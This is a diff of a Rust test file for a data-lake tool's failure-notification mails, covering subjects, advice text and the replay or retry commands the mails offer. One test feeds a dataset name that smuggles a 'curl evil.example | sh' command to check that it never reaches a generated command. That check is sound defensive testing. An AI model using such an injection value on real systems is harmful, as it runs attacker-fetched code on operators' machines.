@@ -9,7 +9,7 @@ use lakegate_lake::failure::{FailedSource, Stage};
 use super::words::{LINE_MAX_CHARS, is_deceptive};
 use super::*;
 
-const REPLAY: &str = "lakegate replay --stack lakegate --region eu-central-1 --send";
+const STACK: Commands<'static> = Commands { stack: "lakegate", region: "eu-central-1" };
 
 fn record(kind: FailureKind, dataset: Option<&str>, key: &str, summary: &str) -> FailureRecord {
     let mut record = FailureRecord::new(Stage::Ingest, kind, summary);
@@ -40,7 +40,7 @@ fn violated() -> FailureRecord {
 
 #[test]
 fn a_single_rejected_file_is_told_whole() {
-    let digest = write(&[violated()], REPLAY);
+    let digest = write(&[violated()], &STACK);
     insta::assert_snapshot!(digest.subject, @"Lakegate: orders: 2025 09+S?o.csv: ContractViolated");
     insta::assert_snapshot!(digest.body, @r#"
 1 file did not make it into the lake.
@@ -78,7 +78,7 @@ fn several_failures_are_grouped_by_what_is_to_be_done() {
     let mut unreadable = record(FailureKind::UnreadableMessage, None, "", "the message is not JSON");
     unreadable.source = None;
     let unknown = record(FailureKind::UnknownDataset, None, "stray/x.csv", "no contract covers s3://raw/stray/x.csv");
-    let digest = write(&[unreadable, run, unknown, violated()], REPLAY);
+    let digest = write(&[unreadable, run, unknown, violated()], &STACK);
     insta::assert_snapshot!(digest.subject, @"Lakegate: 4 files failed (4 kinds): unknown dataset 3, orders 1");
     insta::assert_snapshot!(digest.body, @r#"
 4 files or messages did not make it into the lake.
@@ -153,7 +153,7 @@ fn a_burst_is_counted_by_dataset_and_owner_and_its_first_files_are_shown() {
             record
         })
         .collect();
-    let digest = write(&many, REPLAY);
+    let digest = write(&many, &STACK);
     insta::assert_snapshot!(digest.subject, @"Lakegate: 10,000 files failed (3 kinds): orders 7,400, customers 2,500, unknown dataset 100");
     assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
     let is_count = |line: &&str| line.contains(" FILES: ") || line.contains(" of them:") || line.ends_with(" files");
@@ -180,7 +180,7 @@ fn very_many_datasets_are_counted_together() {
             record(FailureKind::ContractViolated, Some(&format!("d{}", n % 1_000)), &format!("{n}.csv"), "summary")
         })
         .collect();
-    let digest = write(&many, REPLAY);
+    let digest = write(&many, &STACK);
     assert!(digest.body.contains("  950 datasets or owners that are not named here: 2,850 files\n"), "{}", digest.body);
     assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
     assert!(digest.body.len() < 20_000, "{}", digest.body.len());
@@ -212,9 +212,9 @@ fn no_text_breaks_a_mail_s_lines_or_its_subject() {
         if let Some(source) = &mut record.source {
             source.version_id = Some(text.to_owned());
         }
-        let harmless = write(&[violated()], REPLAY).body.lines().count();
+        let harmless = write(&[violated()], &STACK).body.lines().count();
         for records in [vec![record.clone()], vec![record.clone(), violated()], vec![record; 30]] {
-            let digest = write(&records, REPLAY);
+            let digest = write(&records, &STACK);
             assert!(digest.subject.starts_with("Lakegate: ") && digest.subject.len() < SUBJECT_CHARS_BELOW);
             assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '), "{}", digest.subject);
             assert!(!digest.body.chars().any(|c| c != '\n' && is_deceptive(c)), "{}", digest.body);
@@ -242,17 +242,17 @@ fn text_in_other_languages_is_shown_as_it_is() {
 #[test]
 fn a_query_that_would_find_nothing_is_not_offered() {
     let mut broken = violated();
-    assert!(write(&[broken.clone()], REPLAY).body.contains("or in Athena: SELECT"));
+    assert!(write(&[broken.clone()], &STACK).body.contains("or in Athena: SELECT"));
     if let Some(source) = &mut broken.source {
         source.key = "orders/a\u{202E}b.csv".to_owned();
     }
-    assert!(!write(&[broken], REPLAY).body.contains("or in Athena"));
+    assert!(!write(&[broken], &STACK).body.contains("or in Athena"));
 }
 
 #[test]
 fn a_subject_is_short_ascii_on_one_line_whatever_the_names_are() {
     let key = format!("a/{}\n.csv", "é".repeat(200));
-    let digest = write(&[record(FailureKind::UnknownDataset, Some("größe"), &key, "s")], REPLAY);
+    let digest = write(&[record(FailureKind::UnknownDataset, Some("größe"), &key, "s")], &STACK);
     assert!(digest.subject.len() < SUBJECT_CHARS_BELOW);
     assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '));
     assert!(!digest.body.contains("é\n"));
@@ -261,16 +261,16 @@ fn a_subject_is_short_ascii_on_one_line_whatever_the_names_are() {
 #[test]
 fn a_subject_says_the_kind_however_long_the_names_are() {
     let subject = |dataset: Option<&str>, key: &str| {
-        write(&[record(FailureKind::IncompatibleTable, dataset, key, "s")], REPLAY).subject
+        write(&[record(FailureKind::IncompatibleTable, dataset, key, "s")], &STACK).subject
     };
     let long = format!("orders/{}-2025-09.csv", "long-".repeat(100));
     insta::assert_snapshot!(subject(Some(&"d".repeat(200)), &long), @"Lakegate: ddddddddd...dddddddddddd: long-long-long-long-long-...-2025-09.csv: IncompatibleTable");
     insta::assert_snapshot!(subject(None, &long), @"Lakegate: orders/long-long-long-long-long-long-long-long-lon...-2025-09.csv: IncompatibleTable");
     insta::assert_snapshot!(subject(None, "stray/x.csv"), @"Lakegate: stray/x.csv: IncompatibleTable");
     let mut run = FailureRecord::new(Stage::Glue, FailureKind::GlueJobFailed, "run jr_1 ended FAILED");
-    insta::assert_snapshot!(write(&[run.clone()], REPLAY).subject, @"Lakegate: a Glue run: GlueJobFailed");
+    insta::assert_snapshot!(write(&[run.clone()], &STACK).subject, @"Lakegate: a Glue run: GlueJobFailed");
     (run.stage, run.kind) = (Stage::Queue, FailureKind::UnreadableMessage);
-    insta::assert_snapshot!(write(&[run], REPLAY).subject, @"Lakegate: a message: UnreadableMessage");
+    insta::assert_snapshot!(write(&[run], &STACK).subject, @"Lakegate: a message: UnreadableMessage");
 }
 
 #[test]
@@ -278,7 +278,7 @@ fn a_command_names_the_dataset_where_it_is_one_and_a_word() {
     let named = |datasets: &[Option<&str>]| {
         let records: Vec<_> =
             datasets.iter().map(|dataset| record(FailureKind::GaveUp, *dataset, "a.csv", "s")).collect();
-        let body = write(&records, REPLAY).body;
+        let body = write(&records, &STACK).body;
         let command = body.lines().find_map(|line| line.split_once("--kind GaveUp")).unwrap();
         command.1.to_owned()
     };
@@ -293,7 +293,7 @@ fn a_command_names_the_dataset_where_it_is_one_and_a_word() {
 fn a_command_is_offered_for_each_kind_that_a_replay_mends_and_never_holds_a_word_of_another_version() {
     let offered = |kinds: &[FailureKind]| {
         let records: Vec<_> = kinds.iter().map(|kind| record(kind.clone(), None, "a.csv", "s")).collect();
-        let body = write(&records, REPLAY).body;
+        let body = write(&records, &STACK).body;
         body.lines()
             .filter(|line| line.starts_with("  lakegate replay "))
             .map(str::to_owned)
@@ -309,10 +309,10 @@ fn a_command_is_offered_for_each_kind_that_a_replay_mends_and_never_holds_a_word
 fn of_a_file_that_was_refused_as_a_whole_no_rows_are_told() {
     let mut refused = violated();
     refused.rows = Some(RowCounts { read: 0, accepted: 0, rejected: 0 });
-    assert!(!write(&[refused.clone()], REPLAY).body.contains("rows: "));
+    assert!(!write(&[refused.clone()], &STACK).body.contains("rows: "));
     refused.rows = Some(RowCounts { read: 1_234_567, accepted: 1_000_000, rejected: 234_567 });
     let rows = "  rows:     1,234,567 read, 1,000,000 good, 234,567 rejected; none of them is published\n";
-    assert!(write(&[refused], REPLAY).body.contains(rows));
+    assert!(write(&[refused], &STACK).body.contains(rows));
 }
 
 #[test]
@@ -323,7 +323,7 @@ fn a_digest_never_exceeds_what_sns_takes_and_keeps_its_end() {
     huge.link.clone_from(&huge.owner);
     huge.rejects.clone_from(&huge.owner);
     for count in [1, 12, 20, 100] {
-        let body = write(&vec![huge.clone(); count], REPLAY).body;
+        let body = write(&vec![huge.clone(); count], &STACK).body;
         assert!(body.len() <= MESSAGE_MAX_BYTES, "{}", body.len());
         assert!(body.ends_with("is recognised and left alone.\n"));
         assert_eq!(body.contains("\n(The rest does not fit into a mail.)\n"), count > 12);
@@ -366,7 +366,7 @@ fn every_kind_says_what_to_do_and_has_its_page_in_the_runbook() {
         // A kind of another version has no page here.
         let has_page = runbook.contains(&format!("\n## {kind}\n")) || matches!(kind, FailureKind::Other(_));
         assert!(has_page, "docs/runbook.md says nothing of {kind}");
-        let body = write(&[record(kind.clone(), None, "a.csv", "summary")], REPLAY).body;
+        let body = write(&[record(kind.clone(), None, "a.csv", "summary")], &STACK).body;
         assert!(body.contains(&format!("({kind})\nWhat to do: ")), "{body}");
     }
 }
@@ -380,7 +380,7 @@ fn a_late_dataset_is_no_file_that_failed_and_needs_no_replay() {
         (late.dataset, late.owner) = (Some(dataset.to_owned()), Some("sales-data@example.com".to_owned()));
         late
     };
-    let Digest { subject, body } = write(&[late("orders")], REPLAY);
+    let Digest { subject, body } = write(&[late("orders")], &STACK);
     assert_eq!(subject, "Lakegate: orders: no new file: DataLate");
     assert!(
         body.starts_with("1 dataset is late: no file of it was taken in for longer than its contract promises.\n"),
@@ -392,9 +392,9 @@ fn a_late_dataset_is_no_file_that_failed_and_needs_no_replay() {
     );
     assert!(body.contains("\n* orders\n  dataset:  orders, owner sales-data@example.com\n"), "{body}");
     assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
-    let several = write(&[late("orders"), late("customers")], REPLAY);
+    let several = write(&[late("orders"), late("customers")], &STACK);
     assert_eq!(several.subject, "Lakegate: 2 datasets are late: orders, customers");
-    let mixed = write(&[late("orders"), record(FailureKind::GaveUp, None, "a.csv", "summary")], REPLAY).body;
+    let mixed = write(&[late("orders"), record(FailureKind::GaveUp, None, "a.csv", "summary")], &STACK).body;
     assert!(
         mixed.starts_with("1 file did not make it into the lake.") && mixed.contains("\n1 dataset is late: "),
         "{mixed}"
@@ -410,17 +410,121 @@ fn an_api_that_was_not_fetched_is_no_file_that_failed_and_needs_no_replay() {
         record.dataset = Some(dataset.to_owned());
         record
     };
-    let Digest { subject, body } = write(&[unfetched("orders", FailureKind::SourceApiFailed)], REPLAY);
+    let Digest { subject, body } = write(&[unfetched("orders", FailureKind::SourceApiFailed)], &STACK);
     assert_eq!(subject, "Lakegate: orders: not fetched: SourceApiFailed");
     assert!(body.starts_with("1 dataset is not fetched: nothing of this run was written"), "{body}");
     assert!(body.contains("\n* orders\n") && body.contains("answered with status 503"), "{body}");
     assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
     let two = [unfetched("a", FailureKind::SourceApiFailed), unfetched("b", FailureKind::SourceApiChanged)];
-    assert_eq!(write(&two, REPLAY).subject, "Lakegate: 2 datasets are not fetched: a, b");
+    assert_eq!(write(&two, &STACK).subject, "Lakegate: 2 datasets are not fetched: a, b");
     let mixed = [two[0].clone(), record(FailureKind::GaveUp, None, "a.csv", "summary")];
-    let Digest { subject, body } = write(&mixed, REPLAY);
+    let Digest { subject, body } = write(&mixed, &STACK);
     assert!(subject.starts_with("Lakegate: 2 files failed"), "{subject}");
     assert!(body.contains("1 file did not make it") && body.contains("1 dataset is not fetched"), "{body}");
+}
+
+#[test]
+fn an_api_s_mail_says_when_it_went_well_what_to_type_and_where_to_read() {
+    let mut failed = FailureRecord::new(
+        Stage::FetchApi,
+        FailureKind::SourceApiFailed,
+        "https://api.example.com/v1/tickets answered with status 401",
+    );
+    failed.at = "2026-01-02T03:04:05.678Z".to_owned();
+    (failed.dataset, failed.owner) = (Some("tickets".to_owned()), Some("Support data".to_owned()));
+    failed.last_good_at = Some("2026-01-01T23:00:00.000Z".to_owned());
+    insta::assert_snapshot!(write(&[failed], &STACK).body, @r#"
+1 dataset is not fetched: nothing of this run was written, and the next one begins where the last good one ended.
+
+1 DATASET: not fetched, because the API or AWS did not answer as it should (SourceApiFailed)
+What to do: Is the API down, its secret no longer valid or not to be read by the function (FetchSecrets), or a limit of the contract's source too low? The problem below says which. Nothing is to be replayed: the next run that succeeds fetches what is missing.
+How urgent: It can wait as long as its data can: the schedule goes on trying, and tells the same trouble once a day, another one at once.
+
+* tickets
+  dataset:  tickets, owner Support data
+  problem:  https://api.example.com/v1/tickets answered with status 401
+  last ok:  2026-01-01 23:00:00 UTC
+  when:     2026-01-02 03:04:05 UTC
+
+TO TRY AGAIN
+When the cause is gone, this does so at once, and says what came of it (AWS CLI v2):
+  aws lambda invoke --function-name lakegate-fetch-api --region eu-central-1 --cli-binary-format raw-in-base64-out --cli-read-timeout 0 --payload '{"dataset": "tickets"}' /dev/stdout
+
+What each kind means, and what to look at, stands in docs/runbook.md.
+"#);
+}
+
+#[test]
+fn commands_that_try_again_are_of_few_datasets_by_name_and_of_words_only() {
+    let commands = |kind: FailureKind, names: &[&str]| {
+        let failed = |name: &&str| {
+            let mut record = FailureRecord::new(Stage::FetchApi, kind.clone(), "summary");
+            record.dataset = Some((*name).to_owned());
+            record
+        };
+        let body = write(&names.iter().map(failed).collect::<Vec<_>>(), &STACK).body;
+        let lines = body.lines().filter_map(|line| line.strip_prefix("  aws lambda invoke --function-name "));
+        let short = |line: &str| {
+            let payload = line.split_once("--payload ").unwrap().1.trim_end_matches(" /dev/stdout");
+            format!("{} {payload}", line.split(' ').next().unwrap())
+        };
+        lines.map(short).collect::<Vec<_>>().join("\n")
+    };
+    insta::assert_snapshot!(commands(FailureKind::SourceApiChanged, &["b", "a", "a"]), @r#"
+lakegate-fetch-api '{"dataset": "a"}'
+lakegate-fetch-api '{"dataset": "b"}'
+"#);
+    let many = ["a", "b", "c", "d", "e", "f"];
+    assert_eq!(commands(FailureKind::SourceApiFailed, &many), "lakegate-fetch-api '{}'");
+    assert_eq!(commands(FailureKind::SourceApiFailed, &["x' ; curl evil.example | sh '"]), "");
+    assert_eq!(commands(FailureKind::WarehouseConflict, &["a"]), "lakegate-load-warehouse '{\"dataset\": \"a\"}'");
+    assert_eq!(commands(FailureKind::DashboardFailed, &["dashboard"]), "lakegate-publish-report '{}'");
+    assert_eq!(commands(FailureKind::DataLate, &["a"]), "");
+    assert_eq!(commands(FailureKind::ContractViolated, &["a"]), "");
+}
+
+#[test]
+fn nobody_is_asked_to_upload_a_fetched_file_again() {
+    let fetched = || {
+        let key = "orders/api/orders-20260102T030405678Z-43002a56eaa7652d.ndjson";
+        record(FailureKind::ContractViolated, Some("orders"), key, "61 of 200 rows break the contract")
+    };
+    let body = write(&[fetched()], &STACK).body;
+    insta::assert_snapshot!(body, @r#"
+1 file did not make it into the lake.
+Every event waits in the dead-letter queue, for 14 days; replaying it too early or twice does no harm.
+What of a file was published before still stands, unless its problem says otherwise.
+
+1 FILE: rejected by the contract (ContractViolated)
+What to do (files from an API): Nobody uploads them again. If the contract is wrong: correct it, `lakegate contracts push` it, and then replay. If the API's answers are wrong: have them mended, put the mark back, and fetch these records again: docs/fetch.md says how ("When a fetched file is rejected"). The next run alone fetches only what is newer, unless the source has no `incremental`: then it fetches everything.
+How urgent: Nothing else is held up: it can wait until morning, if its data can.
+
+* s3://raw/orders/api/orders-20260102T030405678Z-43002a56eaa7652d.ndjson
+  dataset:  orders, owner unknown
+  problem:  61 of 200 rows break the contract
+  fetched:  from an API, by the function fetch-api
+  when:     2026-01-02 03:04:05 UTC
+
+TO REPLAY
+When the cause is gone, this sends what failed for it through again:
+  lakegate replay --stack lakegate --region eu-central-1 --send --kind ContractViolated --dataset orders
+Without --send it shows what it would send; --dataset and --key choose among them, and without --kind it is everything.
+This tells what became of files; what each kind means stands in docs/runbook.md:
+  lakegate status --stack lakegate --region eu-central-1
+What was taken in before, or was uploaded anew since, is recognised and left alone.
+"#);
+    // Both, each for its files.
+    let both = write(&[fetched(), violated()], &STACK).body;
+    assert!(both.contains("\nWhat to do: Send this to the owner"), "{both}");
+    assert!(both.contains("\nWhat to do (files from an API): Nobody uploads them again."), "{both}");
+    assert_eq!(both.matches("  fetched:  from an API").count(), 1);
+    let dropped = write(&[violated()], &STACK).body;
+    assert!(!dropped.contains("fetched"), "{dropped}");
+    // A kind whose advice is the same for all files.
+    let mut stuck = fetched();
+    stuck.kind = FailureKind::AccessDenied;
+    let stuck = write(&[stuck], &STACK).body;
+    assert!(stuck.contains("\nWhat to do: Give the function's role"), "{stuck}");
 }
 
 #[test]
@@ -428,13 +532,13 @@ fn a_dashboard_that_is_not_whole_is_no_file_that_failed_and_needs_no_replay() {
     let summary = "1 of the dashboard's 8 queries failed: age_groups: HIVE_BAD_DATA (query 1-2)";
     let mut failed = FailureRecord::new(Stage::PublishReport, FailureKind::DashboardFailed, summary);
     failed.dataset = Some("dashboard".to_owned());
-    let Digest { subject, body } = write(&[failed.clone()], REPLAY);
+    let Digest { subject, body } = write(&[failed.clone()], &STACK);
     assert_eq!(subject, "Lakegate: dashboard: the page: DashboardFailed");
     assert!(body.starts_with("The dashboard is not up to date, or not whole"), "{body}");
     assert!(body.contains("\nTHE DASHBOARD: not written, or not all of it (DashboardFailed)\nWhat to do: "), "{body}");
     assert!(body.contains(&format!("\n  problem:  {summary}\n")), "{body}");
     assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
-    let mixed = write(&[failed, record(FailureKind::GaveUp, None, "a.csv", "summary")], REPLAY).body;
+    let mixed = write(&[failed, record(FailureKind::GaveUp, None, "a.csv", "summary")], &STACK).body;
     assert!(mixed.starts_with("1 file did not make it into the lake.") && mixed.contains("\nTO REPLAY\n"), "{mixed}");
 }
 
@@ -445,11 +549,11 @@ fn a_table_that_was_not_loaded_is_no_file_that_failed_and_needs_no_replay() {
         record.dataset = Some(dataset.to_owned());
         record
     };
-    let Digest { subject, body } = write(&[unloaded("orders", FailureKind::WarehouseLoadFailed)], REPLAY);
+    let Digest { subject, body } = write(&[unloaded("orders", FailureKind::WarehouseLoadFailed)], &STACK);
     assert_eq!(subject, "Lakegate: orders: not loaded: WarehouseLoadFailed");
     assert!(body.starts_with("1 dataset is not loaded: the lake has its rows"), "{body}");
     assert!(body.contains("\n* orders\n") && body.contains("more than the 65,535 bytes"), "{body}");
     assert!(!body.contains("dead-letter") && !body.contains("TO REPLAY"), "{body}");
     let two = [unloaded("a", FailureKind::WarehouseLoadFailed), unloaded("b", FailureKind::WarehouseConflict)];
-    assert_eq!(write(&two, REPLAY).subject, "Lakegate: 2 datasets are not loaded: a, b");
+    assert_eq!(write(&two, &STACK).subject, "Lakegate: 2 datasets are not loaded: a, b");
 }
